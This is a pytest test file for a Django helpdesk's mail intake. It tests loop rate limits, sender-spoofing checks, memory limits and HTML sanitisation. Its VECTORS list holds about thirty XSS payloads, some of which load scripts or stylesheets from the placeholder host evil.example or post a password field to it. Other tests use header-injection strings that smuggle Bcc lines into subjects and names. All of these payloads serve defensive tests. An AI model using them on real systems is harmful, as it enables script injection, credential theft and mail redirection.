"""Mail that means harm: loops, scripts, headers in headers, forged senders, and more than a machine can hold."""

import tracemalloc
from html.parser import HTMLParser

import pytest
from django.core import mail as outbox
from structlog.testing import capture_logs

from customers import services
from customers.models import Collaborator, Ticket
from customers.services.mail import budgets, formatted, incoming
from tests.customers.mails import take, write
from tests.customers.test_incoming_mail import answered
from tests.customers.test_mail import queued, send_all
from tests.factories import make_customer, make_mailbox, make_ticket, make_user

pytestmark = pytest.mark.django_db


@pytest.fixture
def by():
    return make_user("support_agent", name="Anna Agent")


# --- Loops --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("cites", [True, False])
def test_a_responder_that_changes_its_address_each_time_is_answered_a_few_times_only(cites, monkeypatch):
    """It repeats our subject and cites nothing; or it says the same without even that."""
    monkeypatch.setattr(budgets, "AUTOMATIC_AN_HOUR", 2)
    monkeypatch.setattr(budgets, "SAME_TEXT_AN_HOUR", 4)
    mailbox = make_mailbox()
    take(write("I am machine 0.", sender="r0@loop.example"), mailbox)
    for turn in range(1, 9):
        before = len(outbox.outbox)
        send_all()
        if len(outbox.outbox) == before:
            break
        subject = f"Re: {outbox.outbox[-1].subject}" if cites else f"Ref {turn}"
        take(write(f"I am machine {turn}.", sender=f"r{turn}@loop.example", subject=subject), mailbox)

    assert len(outbox.outbox) == (3 if cites else 4)
    last = Ticket.objects.latest("pk")
    assert last.messages.latest("pk").body == (
        "No receipt was sent: too many went out within an hour. Two machines may be answering each other."
    )


def test_a_ticket_takes_a_limited_number_of_mails_an_hour(by, monkeypatch):
    """A machine that answers our mail again and again, from a new address and under a new Message-ID."""
    monkeypatch.setattr(budgets, "MAILS_AN_HOUR", 4)
    ticket, reply = answered(by)
    for number in range(budgets.MAILS_AN_HOUR):
        came = take(write(f"Away {number}.", sender=f"r{number}@loop.example", in_reply_to=reply.message_id))
        assert came.verdict == "appended"

    came = take(write("Away.", sender="last@loop.example", in_reply_to=reply.message_id))
    stranger = take(write("Away.", sender="other@loop.example", subject=f"Re: [{ticket.number}]"))
    old = take(write("An archive.", Date="Mon, 5 Jan 2015 10:00:00 +0000", in_reply_to=reply.message_id))

    assert (came.verdict, stranger.verdict, old.verdict) == ("quarantined", "quarantined", "appended")
    assert came.why.startswith(f"{ticket.number} received too much mail within an hour")
    [note] = ticket.messages.filter(kind="note")
    assert note.body.startswith("Too much mail came within an hour.")
    assert incoming.make_ticket(came, by=by).verdict == "new"


# --- Scripts ------------------------------------------------------------------------------------------

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)' / >",
    "<IMG SRC=javascript:alert(1)>",
    "<img src=`javascript:alert(1)`>",
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<body onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='https://evil.example/'><link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(javascript:alert(1))}</style>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example)'>x</div>",
    "<table background='javascript:alert(1)'><tr><td background='https://evil.example/x'>x</td></tr></table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>",
    "<p id=content name=submit class='button' data-guard hx-get='/go/'>x</p>",
    "<img alt='\"><script>alert(1)</script>' src=cid:x>",
    "<template><script>alert(1)</script></template><portal src=x></portal>",
]


class _Seen(HTMLParser):
    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes, self.addresses = set(), set(), []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes |= {name for name, _value in attrs}
        self.addresses += [value or "" for name, value in attrs if name in {"href", "src"}]


@pytest.mark.parametrize("with_pictures", [True, False])
def test_what_a_browser_would_run_never_reaches_the_page(with_pictures):
    for vector in VECTORS:
        kept = formatted.sanitised(f"<p>Hi</p>{vector}<p>Bye</p>")
        seen = _Seen(formatted.shown(kept, with_pictures=with_pictures))

        assert seen.tags <= formatted.TAGS, vector
        assert seen.attributes <= {
            "href",
            "src",
            "alt",
            "title",
            "rel",
            "class",
            "width",
            "height",
            "colspan",
            "rowspan",
        }
        assert not [one for one in seen.addresses if ":" in one.split("/")[0] and not one.startswith(("http", "cid:"))]
        assert "evil.example" not in " ".join(seen.addresses), vector
        assert "<p>Bye</p>" in kept or "noscript" in vector or "textarea" in vector, vector


def test_a_mail_with_scripts_and_drawings_is_a_ticket_whose_files_never_open_in_the_browser(client):
    files = [
        ("a.svg", b"<svg onload='alert(1)'/>", "image/svg+xml"),
        ("b.html", b"<html>x", "text/html"),
        ("c.png", b"<svg onload='alert(1)'/>", "image/png"),
        ("d.txt", b"fine", "text/plain"),
    ]
    with capture_logs() as logs:
        came = take(write("<script>alert(1)</script>", html="".join(VECTORS[:3]), subject="<b>x</b>", files=files))
    client.force_login(make_user("owner"))
    page = client.get(came.ticket.get_absolute_url()).content.decode()

    verdicts = came.message.attachments.order_by("name").values_list("verdict", flat=True)
    assert list(verdicts) == ["quarantined", "quarantined", "quarantined", "safe"]
    assert [one["event"] for one in logs].count("attachment_quarantined") == 3
    assert "alert(1)" in page
    assert "<script>alert(1)" not in page
    assert "<b>x</b>" not in page
    for file in came.message.attachments.all():
        answer = client.get(f"/tickets/files/{file.pk}/")
        assert answer["Content-Disposition"].startswith("attachment")
        assert answer["Content-Security-Policy"] == "sandbox; default-src 'none'"
        assert answer["X-Content-Type-Options"] == "nosniff"
        b"".join(answer.streaming_content)


# --- Headers ------------------------------------------------------------------------------------------


def test_a_header_in_a_header_stays_text(by):
    """In the subject, the name, the address to answer to, and of whom is copied in; encoded, folded and raw."""
    broken = "=?utf-8?q?Jane=0D=0ABcc=3A_all=40example=2Ecom?="
    raw = write(
        subject="SUBJECT", sender="FROM <jane@example.com>", cc="CC <bob@example.com>", reply_to="TO <jane@example.com>"
    )
    for name in (b"SUBJECT", b"FROM", b"CC", b"TO"):
        raw = raw.replace(name, broken.encode())
    came = take(raw)
    services.reply(came.ticket, body="Hello.", by=by)
    send_all()

    assert came.ticket.subject == came.ticket.requester_name == "Jane Bcc: all@example.com"
    assert len(outbox.outbox) == 2
    for sent in outbox.outbox:
        head = sent.message().as_bytes().partition(b"\n\n")[0]
        assert not [line for line in head.lower().split(b"\n") if line.startswith(b"bcc:")]
        assert sent.to == ['"Jane Bcc: all@example.com" <jane@example.com>']
    assert [sent.cc for sent in outbox.outbox] == [[], ['"Jane Bcc: all@example.com" <bob@example.com>']]


def test_line_breaks_that_stand_in_the_database_send_no_header(by, settings):
    settings.COMPANY_NAME = "Houtai\nBcc: c@example.com"
    ticket = make_ticket(channel="staff")
    Collaborator.objects.create(ticket=ticket, name="Bob\r\nBcc: b@example.com", email="bob@example.com")
    services.reply(ticket, body="Hello.", by=by)
    Ticket.objects.update(subject="Late\r\nBcc: s@example.com", requester_name="Jane\nBcc: r@example.com")
    send_all()

    [sent] = outbox.outbox
    assert sent.message()["Bcc"] is None
    assert sent.subject == f"Re: Late Bcc: s@example.com [{ticket.number}]"


# --- Senders ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("said", "is_doubtful"),
    [
        ("mx.houtai.example; dmarc=fail header.from=example.com", True),
        ("mx.houtai.example; spf=softfail smtp.mailfrom=evil.example", True),
        ("mx.houtai.example; spf=fail; dkim=pass header.d=example.com; dmarc=pass", False),
        ("mx.houtai.example; dkim=pass header.d=evil.example; dmarc=fail", True),
        ("mx.houtai.example; spf=pass; dkim=none", False),
    ],
)
def test_whoever_only_says_to_be_a_customer_is_not_answered_and_reads_nothing(by, said, is_doubtful):
    customer = make_customer("Jane Doe", email="jane@example.com")
    ticket, _reply = answered(by, customer=customer)
    before = queued()

    came = take(write(subject=f"Re: [{ticket.number}]", authentication_results=said))

    assert came.is_doubtful is is_doubtful
    assert (came.ticket != ticket) is is_doubtful
    assert queued() == before


# --- Sizes --------------------------------------------------------------------------------------------


def test_memory_is_bounded_by_the_size_of_a_mail():
    """A few times its size, which is 25 MB at most."""
    raw = write(files=[(f"f{n}.bin", bytes(2**20), "application/octet-stream") for n in range(2)])
    tracemalloc.start()
    came = take(raw)
    _now, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert came.message.attachments.count() == 2
    assert peak < 10 * len(raw)
